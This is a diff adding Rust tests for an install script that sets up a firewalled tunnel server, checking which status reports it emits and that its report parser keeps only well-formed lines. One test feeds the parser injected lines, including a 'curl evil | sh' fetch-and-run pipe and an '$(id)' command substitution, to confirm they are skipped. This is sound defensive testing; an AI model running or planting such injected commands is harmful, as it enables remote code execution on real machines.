@@ -309,3 +309,85 @@ fn a_firewall_that_does_not_load_keeps_the_tunnel_server_from_starting() {
     assert!(!calls.contains("curl"), "downloaded with no firewall: {calls}");
     assert!(!calls.contains(UNIT_NAME) && !calls.contains(FIREWALL_PATH_NAME), "{calls}");
 }
+
+#[test]
+fn every_outcome_the_install_script_reports_is_one_the_operator_reads() {
+    let script = render_install(&artifacts()).unwrap();
+    let mut said: Vec<String> = script
+        .match_indices("say ")
+        .filter_map(|(i, _)| {
+            let quoted = &script[i + 4..];
+            let quote = quoted.chars().next().filter(|q| *q == '\'' || *q == '"')?;
+            Some(quoted[1..].split(quote).next()?.to_string())
+        })
+        .collect();
+    said.push("started".into());
+    let steps: Vec<&str> = script.lines().filter_map(|l| l.strip_prefix("step=")).collect();
+    assert_eq!(steps, ["firewall", "install", "service"]);
+    let mut reports = Vec::new();
+    for words in said {
+        for step in &steps {
+            let line = words.replace("$arch", "riscv64").replace("$step", step);
+            let report = InstallReport::find(&format!("[  42.1] cloud-init[812]: {INSTALL_REPORT} {line}\r\n"));
+            reports.push(report.unwrap_or_else(|| panic!("{line:?} is not read back")));
+        }
+    }
+    for want in [
+        InstallReport::Started,
+        InstallReport::ArtifactRefused("digest-mismatch".into()),
+        InstallReport::ArtifactRefused("download-failed".into()),
+        InstallReport::ArtifactRefused("architecture riscv64".into()),
+        InstallReport::NotStarted("firewall".into()),
+        InstallReport::NotStarted("install".into()),
+        InstallReport::NotStarted("service".into()),
+    ] {
+        assert!(reports.contains(&want), "{want:?} is never reported: {reports:?}");
+    }
+    // Each refusal ends the script before anything is installed; a started server is checked.
+    let refused = script.find("say 'refused digest-mismatch'").unwrap();
+    assert!(script[refused..].starts_with("say 'refused digest-mismatch'\n  exit 1\n"));
+    let active = script.find(&format!("systemctl is-active --quiet {UNIT_NAME}")).unwrap();
+    assert!(active < script.find("say started").unwrap());
+}
+
+#[test]
+fn only_the_last_well_formed_report_on_a_console_is_read() {
+    let console = format!(
+        "Linux version 6.1\n{INSTALL_REPORT} not-started service\nlogin: \n{INSTALL_REPORT} started\n\
+         {INSTALL_REPORT} refused digest-mismatch; curl evil | sh\n{INSTALL_REPORT} refused architecture x86_64$(id)\n"
+    );
+    assert_eq!(InstallReport::find(&console), Some(InstallReport::Started), "malformed lines are skipped");
+    assert_eq!(InstallReport::find("Linux version 2.6.16-xenU\nBIOS-provided physical RAM map:\n"), None);
+    assert_eq!(InstallReport::find(""), None);
+}
+
+#[test]
+fn the_install_script_reports_why_it_stopped() {
+    use std::os::unix::fs::PermissionsExt;
+    let run = |stubs: &[(&str, &str)]| {
+        let dir = std::env::temp_dir().join(format!("skyport-report-{}-{}", std::process::id(), rand::random::<u32>()));
+        std::fs::create_dir_all(&dir).unwrap();
+        // Nothing on this machine is touched: each step the script may reach is a stub.
+        for (name, body) in [("nft", "exit 0"), ("uname", "echo x86_64"), ("curl", "exit 22"), ("rm", "exit 0")]
+            .iter()
+            .filter(|(n, _)| !stubs.iter().any(|(s, _)| s == n))
+            .chain(stubs)
+        {
+            std::fs::write(dir.join(name), format!("#!/bin/sh\n{body}\n")).unwrap();
+            std::fs::set_permissions(dir.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        let out = std::process::Command::new("sh")
+            .args(["-c", &render_install(&artifacts()).unwrap()])
+            .env("PATH", format!("{}:/usr/bin:/bin", dir.display()))
+            .output()
+            .unwrap();
+        std::fs::remove_dir_all(&dir).unwrap();
+        assert!(!out.status.success());
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert_eq!(stderr.matches(INSTALL_REPORT).count(), 1, "one report: {stderr}");
+        InstallReport::find(&stderr)
+    };
+    assert_eq!(run(&[("nft", "exit 1")]), Some(InstallReport::NotStarted("firewall".into())));
+    assert_eq!(run(&[("uname", "echo riscv64")]), Some(InstallReport::ArtifactRefused("architecture riscv64".into())));
+    assert_eq!(run(&[]), Some(InstallReport::ArtifactRefused("download-failed".into())));
+}
